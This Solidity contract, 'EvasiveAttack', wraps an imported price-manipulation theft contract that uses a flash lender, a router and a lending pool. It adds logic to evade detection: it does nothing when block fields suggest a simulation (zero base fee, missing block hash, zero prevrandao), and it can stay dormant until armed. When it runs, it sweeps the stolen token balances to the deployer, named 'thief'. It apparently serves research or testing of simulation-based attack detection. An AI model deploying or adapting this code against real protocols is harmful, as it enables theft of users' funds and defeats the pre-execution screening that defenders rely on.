// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "./ERC20.sol";
import {FlashLender} from "./FlashLender.sol";
import {LendingPool} from "./LendingPool.sol";
import {PriceAttack} from "./PriceAttack.sol";
import {Router} from "./Router.sol";

/// The same theft by a contract that does nothing while it believes itself simulated: it looks for
/// what careless simulations lack (a base fee, a price of gas, the hash of the block before).
/// With `waits` it also does nothing until somebody arms it, which may happen after a simulation.
contract EvasiveAttack {
    address private immutable thief = msg.sender;
    PriceAttack private immutable theft;
    bool private immutable waits;
    bool private armed;

    constructor(FlashLender lender, Router router, LendingPool pool, bool waits_) {
        theft = new PriceAttack(lender, router, pool);
        waits = waits_;
    }

    function arm() external {
        armed = true;
    }

    function attack(
        ERC20[] calldata tokens,
        uint256[] calldata amounts,
        uint256 depositPerRound,
        uint256 rounds,
        ERC20[] calldata loot,
        ERC20[] calldata soldFor
    ) external {
        require(msg.sender == thief);
        if (_looksSimulated() || (waits && !armed)) return;
        theft.attack(tokens, amounts, depositPerRound, rounds, loot, soldFor);
        for (uint256 i = 0; i < tokens.length; i++) {
            tokens[i].transfer(thief, tokens[i].balanceOf(address(this)));
        }
    }

    function _looksSimulated() private view returns (bool) {
        return block.basefee == 0 || tx.gasprice < block.basefee || blockhash(block.number - 1) == 0
            || block.prevrandao == 0;
    }
}
